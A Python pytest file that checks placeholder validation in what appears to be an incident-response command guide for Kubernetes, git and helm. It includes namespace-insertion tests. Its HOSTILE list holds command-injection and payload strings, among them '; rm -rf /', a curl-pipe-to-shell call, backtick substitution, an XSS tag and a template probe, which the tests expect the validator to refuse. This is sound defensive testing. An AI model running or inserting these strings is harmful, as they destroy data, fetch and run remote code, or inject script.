"""What a reader types reaches a command only if it keeps the rule of its placeholder."""

from __future__ import annotations

import re

import pytest

from decision_tree.engine.incident.placeholders import (
    CAPITALS,
    NAMESPACE,
    RULES_SAID,
    Names,
    asked_for,
    checked,
    filled,
    namespaces_said,
    placeholders_in,
)
from decision_tree.engine.model import RULES, Guide

HOSTILE = (
    "; rm -rf /",
    "$(curl a.test|sh)",
    "`id`",
    "a b",
    "a\nb",
    "a'b",
    'a"b',
    "a\\b",
    "-n",
    "--all",
    "a|b",
    "a&b",
    "a>b",
    "<img src=x onerror=alert(1)>",
    "{{7*7}}",
    "ａｂｃ",
    "rank\u202eer",
    "!!",
    "*",
    "x" * 5000,
)
GOOD = {
    "kubernetes-name": ("ranker", "ranker-2", "a.b.c", "0a", "x" * 63),
    "git-ref": ("v1.4.2", "abc123", "release/1.4", "HEAD~2", "feature-x"),
    "address": (
        "s3://models/a@sha256:12",
        "hf://org/model",
        "pvc://disk/a_b",
        "https://a.test/x%20y",
    ),
    "number": ("0", "12", "300"),
    "number-or-null": ("0", "12", "null"),
    "word": ("Ranker", "2026-11-29", "my_deployment"),
}
BAD = {
    "kubernetes-name": ("Ranker", "ranker-", "a..b", "a_b", "x" * 64, ".a"),
    "git-ref": ("a..b", "a/", "a.", "@{1}", "a^", "a:b", "a//b"),
    "address": ("models/a", "s3://a?x", "s3://", "s3:///a", "S3://a", "https://a.test/#x"),
    "number": ("-1", "01", "1.5", "1e3", "٣"),
    "number-or-null": ("-1", "01", "nullx", "none", "٣"),
    "word": ("_a", ".a", "a/b"),
}


def named(guide: Guide, rule: str) -> str:
    """A placeholder with this rule."""
    return next(row.name for row in guide.placeholders if row.rule == rule)


def test_each_rule_is_told_and_used() -> None:
    assert set(RULES_SAID) == set(RULES) == set(GOOD) == set(BAD)


@pytest.mark.parametrize(("rule", "value"), [(r, v) for r, vs in GOOD.items() for v in vs])
def test_a_value_that_keeps_its_rule_is_filled_in(guide: Guide, rule: str, value: str) -> None:
    name = named(guide, rule)
    names = checked(guide, {name: f" {value} "})
    assert names == Names(((name, value),), ())
    assert filled(f"get {name}:x", names) == f"get {value}:x"


@pytest.mark.parametrize("rule", RULES)
def test_a_value_that_breaks_its_rule_is_refused_with_the_rule(guide: Guide, rule: str) -> None:
    name = named(guide, rule)
    for value in (*HOSTILE, *BAD[rule]):
        names = checked(guide, {name: value})
        assert names.good == (), value
        assert names.refused == (
            (name, f"{name} must be {RULES_SAID[rule]}. The commands do not contain your text."),
        )
        assert filled(f"get {name}", names) == f"get {name}"


def test_what_is_empty_or_unknown_is_left_alone(guide: Guide) -> None:
    assert checked(guide, {"NAME": "  ", "OTHER": "x", "GOOD": ""}) == Names()


@pytest.mark.parametrize(
    ("command", "words"),
    [
        ("kubectl get a NAME -n NAMESPACE", ["NAME", "NAMESPACE"]),
        ("CLUSTER=$(get NAME); use $CLUSTER", ["NAME"]),
        ("s|ADDRESS-NOW|ADDRESS-GOOD|", ["ADDRESS-NOW", "ADDRESS-GOOD"]),
        ('?(@.type=="Ready") jq -Rs serveConfigV2 A -A', []),
        ('"value":MIN},{"x":MAX}', ["MIN", "MAX"]),
    ],
)
def test_words_in_capitals_are_those_that_no_shell_and_no_product_reads(
    command: str, words: list[str]
) -> None:
    assert CAPITALS.findall(command) == words


def test_every_word_in_capitals_of_every_command_has_a_row(guide: Guide) -> None:
    commands = [text for unit in guide.units for text in unit.commands]
    commands += [row.command for rows in (guide.looks, guide.triage) for row in rows]
    commands += [check.command for check in guide.checks]
    used = {word for command in commands for word in CAPITALS.findall(command)}
    assert {row.name for row in placeholders_in(guide, *commands)} == used
    assert {row.name for row in asked_for(guide, *commands)} == set(guide.placeholder_by_name)


def test_every_word_of_every_command_can_be_filled_in(guide: Guide) -> None:
    values = {"number": "7", "number-or-null": "null", "address": "s3://abc"}
    good = {row.name: values.get(row.rule, "abc") for row in guide.placeholders}
    names = checked(guide, good)
    assert not names.refused
    for unit in guide.units:
        for command in unit.commands:
            assert not CAPITALS.findall(filled(command, names))
            assert filled(command, Names()) == command


def every_command(guide: Guide) -> set[str]:
    """Every command of the plan."""
    typed = {row.command for row in guide.looks}
    typed |= {row.command for row in guide.triage}
    typed |= {row.command for row in guide.checks}
    typed |= {text for unit in guide.units for text in unit.commands}
    return typed - {""}


def test_a_typed_namespace_goes_into_each_call_of_kubectl_that_has_none(guide: Guide) -> None:
    names = checked(guide, {NAMESPACE: "prod"})
    for command in every_command(guide):
        for line in filled(command, names).split("\n"):
            for call in line.split("kubectl ")[1:]:
                rest = line[line.index(call) :]
                own = [word for word in (" -n ", " -A", "--all-namespaces") if word in f" {rest}"]
                assert own, line
            assert line.count(" -n prod ") <= line.count("kubectl "), line
            assert not (" -A" in line and " -n prod " in line), line


@pytest.mark.parametrize(
    ("command", "placed"),
    [
        ("kubectl get pods", "kubectl -n prod get pods"),
        ("kubectl get pods -n kserve", "kubectl get pods -n kserve"),
        ("kubectl get pods -A", "kubectl get pods -A"),
        (
            "git show GOOD:service.yaml | kubectl apply -f -",
            "git show GOOD:service.yaml | kubectl -n prod apply -f -",
        ),
        (
            "git show GOOD:p.yaml | kubectl apply -n kserve -f -",
            "git show GOOD:p.yaml | kubectl apply -n kserve -f -",
        ),
        (
            "A=$(kubectl get x -o name)\nkubectl exec $A -- serve status",
            "A=$(kubectl -n prod get x -o name)\nkubectl -n prod exec $A -- serve status",
        ),
        ("helm history r -n kserve", "helm history r -n kserve"),
    ],
)
def test_where_a_namespace_goes(guide: Guide, command: str, placed: str) -> None:
    assert filled(command, checked(guide, {NAMESPACE: "prod"})) == placed
    assert filled(command, checked(guide, {NAMESPACE: "a b"})) == command
    acts_in_current = placed != command
    assert [row.name for row in asked_for(guide, command)].count(NAMESPACE) == acts_in_current
    assert ("your current namespace" in namespaces_said(command)) == acts_in_current
    assert "your current namespace" not in namespaces_said(placed)


def test_a_namespace_is_asked_for_once(guide: Guide) -> None:
    rows = asked_for(guide, "kubectl get hpa -n NAMESPACE", "kubectl get pods")
    assert [row.name for row in rows] == [NAMESPACE]


def test_where_to_look_a_word_up_names_no_other_word_that_nobody_explains(guide: Guide) -> None:
    """A command there is run as it stands: nothing is filled into it."""
    for row in guide.placeholders:
        for code in re.findall(r"`([^`]*)`", row.look.text):
            assert set(CAPITALS.findall(code)) <= set(guide.placeholder_by_name), row.name


def test_a_unit_says_which_file_of_git_its_commands_read(guide: Guide) -> None:
    for unit in guide.units:
        said = " ".join((unit.how.text, *(step.do.text for step in unit.steps)))
        for name in {name for each in unit.commands for name in re.findall(r"GOOD:(\S+)", each)}:
            assert f"`{name}`" in said, (unit.id, name)
